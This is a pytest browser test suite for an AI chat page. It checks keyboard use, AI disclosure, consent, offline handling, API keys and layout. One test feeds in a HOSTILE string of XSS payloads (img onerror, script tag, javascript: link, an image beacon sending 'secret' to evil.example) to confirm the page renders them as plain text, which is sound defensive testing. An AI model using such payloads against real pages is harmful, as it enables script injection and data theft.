"""The chat page in a real browser: by keyboard, on a phone, in the dark, without a network."""

import re
from collections.abc import AsyncGenerator, Iterator
from typing import Any

import pytest

from shipmate.messages import Cited, StreamEvent, Token
from tests.integration.fake_assistant import CITATION, QUOTE, WAIT_TEXT, FakeAssistant
from tests.integration.house import eventually
from tests.journeys.tab import Page, assert_fits_and_reads, opened

pytestmark = pytest.mark.real

QUESTION = "What does a berth cost?"
KEY = "desk-key-0123456789abc"
HOSTILE = (
    '<img src=x onerror="window.hacked=1"> <script>window.hacked=1</script> [click](javascript:window.hacked=1) '
    "![beacon](https://evil.example/?q=secret) [1] [2] [99]\n\n- **bold** `code`\n\n```\n<b>block</b>\n```\n"
    + "Donaudampfschifffahrt"
    * 12
)


class HostileAssistant(FakeAssistant):
    """Its documents try to become part of the page."""

    async def _play(self, text: str) -> AsyncGenerator[StreamEvent, None]:  # noqa: ARG002 - whatever is asked
        yield Cited(number=1, citation=CITATION)
        for start in range(0, len(HOSTILE), 7):
            yield Token(text=HOSTILE[start : start + 7])


@pytest.fixture
def page(browser: Any) -> Iterator[Page]:
    with opened(browser) as page:
        yield page
        assert page.complaints == []


def test_an_answer_streams_with_its_citation_and_the_passage_opens_by_keyboard_alone(page: Page) -> None:
    keyboard = page.page.keyboard
    assert page.focused() == "question"
    keyboard.type(QUESTION)
    keyboard.press("Enter")
    page.page.locator(".answer .tail:not([hidden])").wait_for()
    assert page.text(".answer .text strong") == "A berth costs 24 euros a night"
    for _ in range(10):
        keyboard.press("Shift+Tab")
        if page.focused() == "marker":
            break
    assert page.focused() == "marker"
    keyboard.press("Enter")
    page.page.locator("#panel mark").wait_for()
    assert page.text("#panel mark") == QUOTE
    assert page.text("#panel-path") == "Visitors › Berths"
    assert page.text("#panel-source") == CITATION.source
    assert page.focused() == "panel-close"
    keyboard.press("Escape")
    page.page.locator("#panel").wait_for(state="hidden")
    assert page.focused() == "marker"


def test_shift_enter_begins_a_new_line(page: Page) -> None:
    keyboard = page.page.keyboard
    keyboard.type("one")
    keyboard.press("Shift+Enter")
    keyboard.type("two")
    assert page.page.input_value("#question") == "one\ntwo"
    assert page.house.assistant.asks == []


def test_people_are_told_that_they_talk_to_an_ai_before_and_after_asking(page: Page) -> None:
    assert page.page.get_by_text(page.house.assistant.disclosure).is_visible()
    page.ask_to_the_end(QUESTION)
    assert page.page.get_by_text(page.house.assistant.disclosure).is_visible()


def test_what_people_are_told_is_kept_for_others_only_while_they_tick_the_box(page: Page) -> None:
    box = page.page.get_by_label("What I ask and am told may help to answer others.")
    for number, ticked in enumerate((False, True, False), start=1):
        box.set_checked(ticked)
        page.page.locator("#question").fill(QUESTION)
        page.page.keyboard.press("Enter")
        page.page.locator(".answer .tail:not([hidden])").nth(number - 1).wait_for()
    assert [ask.consent_id for ask in page.house.assistant.asks] == ["", "page", ""]


def test_a_suggestion_asks(page: Page) -> None:
    page.page.click(".suggestion >> nth=0")
    page.page.locator(".answer .tail:not([hidden])").wait_for()
    assert page.text(".bubble") == page.house.assistant.suggestions[0]


def test_a_screen_reader_hears_the_whole_answer_once(page: Page) -> None:
    page.ask_to_the_end(QUESTION)
    heard = page.text("#status")
    assert "A berth costs 24 euros a night" in heard
    assert "[1]" not in heard


def test_the_answer_can_be_stopped_and_stays_as_far_as_it_came(page: Page) -> None:
    page.house.assistant.step_s = 0.1
    page.ask("slow")
    page.page.get_by_text("word1").wait_for()
    page.page.click("#stop")
    page.page.get_by_text("Stopped", exact=True).wait_for()
    assert "word0" in page.text(".answer .text")
    page.ask_to_the_end(QUESTION)
    assert len(page.house.assistant.closed) == 1


def test_the_wait_card_counts_down_and_asks_again(page: Page) -> None:
    page.ask("wait for it")
    card = page.page.locator(".trouble")
    card.wait_for()
    assert WAIT_TEXT in page.text(".trouble")
    again = card.locator(".again")
    assert again.is_disabled()
    assert re.fullmatch(r"Ask again in \d s", again.inner_text())
    page.page.locator(".again:enabled").wait_for()
    again.click()
    page.page.locator(".again:disabled").wait_for()
    assert len(page.house.assistant.asks) == 2
    assert page.page.locator(".question").count() == 1


def test_a_refused_question_says_why_and_can_be_asked_again(browser: Any) -> None:
    with opened(browser) as page:
        page.ask("busy day")
        page.page.locator(".trouble").wait_for()
        assert "This conversation is busy. Wait for the answer." in page.text(".trouble")
        page.page.click(".again")
        assert eventually(lambda: len(page.house.assistant.asks) == 2)
        page.page.locator(".trouble").wait_for()
        assert page.page.locator(".trouble").count() == 1


def test_an_answer_that_breaks_keeps_what_came(page: Page) -> None:
    page.ask("break")
    page.page.locator(".trouble").wait_for()
    assert "The disk went away." in page.text(".trouble")
    assert page.text(".answer .text") == "The answer is"
    assert page.text(".answer .kind") == "Broken off"


def test_a_conversation_goes_on_and_survives_a_reload(page: Page) -> None:
    page.ask_to_the_end(QUESTION)
    page.ask_to_the_end("And water?")
    first, second = page.house.assistant.asks
    assert first.conversation_id == ""
    assert second.conversation_id
    assert first.caller == second.caller
    assert first.caller.startswith("device-")
    page.page.reload()
    page.page.locator(".question").nth(1).wait_for()
    assert page.page.locator(".question").count() == 2
    page.ask_to_the_end("And power?")
    assert page.house.assistant.asks[-1].conversation_id == second.conversation_id


def test_a_new_conversation_begins_empty(page: Page) -> None:
    page.ask_to_the_end(QUESTION)
    page.page.click("#new")
    assert page.page.locator("#greeting").is_visible()
    assert page.page.locator(".question").count() == 0
    page.ask_to_the_end(QUESTION)
    assert page.house.assistant.asks[-1].conversation_id == ""


def test_an_answer_is_copied_with_its_sources(browser: Any) -> None:
    with opened(browser, permissions=["clipboard-read", "clipboard-write"]) as page:
        page.ask_to_the_end(QUESTION)
        page.page.click(".copy")
        page.page.get_by_text("Copied").first.wait_for()
        copied = page.page.evaluate("navigator.clipboard.readText()")
        assert copied.endswith(f"[1] {CITATION.title} ({CITATION.source})")


def test_hostile_text_stays_text(browser: Any) -> None:
    with opened(browser, HostileAssistant(), viewport={"width": 360, "height": 640}) as page:
        page.ask_to_the_end(QUESTION)
        answer = page.page.locator(".answer .text")
        assert "<img src=x" in answer.inner_text()
        assert "<script>" in answer.inner_text()
        assert answer.locator("img, script, a, iframe").count() == 0
        assert answer.locator(".marker").count() == 1
        assert "[2]" in answer.inner_text()
        assert answer.locator("pre code").inner_text() == "<b>block</b>"
        assert page.page.evaluate("window.hacked") is None
        assert page.page.evaluate("document.querySelector('main').scrollWidth") <= 360
        assert page.complaints == []


def test_a_long_answer_is_read_from_its_top(browser: Any) -> None:
    with opened(browser, HostileAssistant(), viewport={"width": 360, "height": 400}) as page:
        for _ in range(2):
            page.ask_to_the_end(QUESTION)
        question = page.page.locator(".question").last
        above = question.evaluate("e => e.getBoundingClientRect().top - e.closest('main').getBoundingClientRect().top")
        assert 0 <= above <= 40


def test_without_a_network_it_says_so_and_comes_back(browser: Any) -> None:
    with opened(browser) as page:
        page.ask_to_the_end(QUESTION)
        page.page.context.set_offline(True)
        page.page.get_by_text("You are offline").wait_for()
        page.ask("Are you there?")
        page.page.get_by_text("The assistant cannot be reached").wait_for()
        page.page.context.set_offline(False)
        page.page.get_by_text("Connected again").wait_for(timeout=10_000)
        page.page.click(".again")
        page.page.locator(".answer .tail:not([hidden])").nth(1).wait_for()
        assert page.text(".bubble") == "Are you there?"


def test_with_keys_the_page_asks_for_one_once(browser: Any) -> None:
    with opened(browser, server={"api_keys": {"desk": KEY}}) as page:
        page.ask(QUESTION)
        page.page.locator("#key").wait_for()
        assert page.focused() == "key-field"
        page.page.keyboard.type("a-wrong-key")
        page.page.keyboard.press("Enter")
        page.page.locator(".trouble").wait_for()
        assert "API key" in page.text(".trouble")
        page.page.click(".again")
        page.page.locator("#key").wait_for()
        page.page.keyboard.type(KEY)
        page.page.keyboard.press("Enter")
        page.page.locator(".answer .tail:not([hidden])").wait_for()
        page.page.click(".marker")
        page.page.locator("#panel mark").wait_for()
        page.ask_to_the_end("And water?")
        assert {ask.caller for ask in page.house.assistant.asks} == {"desk"}


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [320, 360, 1280])
def test_every_state_fits_its_screen_and_can_be_read(browser: Any, scheme: str, width: int) -> None:
    with opened(browser, viewport={"width": width, "height": 720}, color_scheme=scheme) as page:
        assert_fits_and_reads(page, ".empty h1, .empty p, .suggestion, .disclosure, .name, .what, .release")
        page.ask_to_the_end(QUESTION)
        assert_fits_and_reads(page, ".bubble, .answer .text, .marker, .source .title, .source .quote, .copy, time")
        page.page.click(".marker")
        page.page.locator("#panel mark").wait_for()
        assert_fits_and_reads(page, "#panel h2, #panel mark, #panel .passage, #panel-source, #panel-number")
        page.page.keyboard.press("Escape")
        page.ask("break")
        page.page.locator(".trouble").wait_for()
        assert_fits_and_reads(page, ".card-title, .card-text, .again, .kind:not([hidden])")
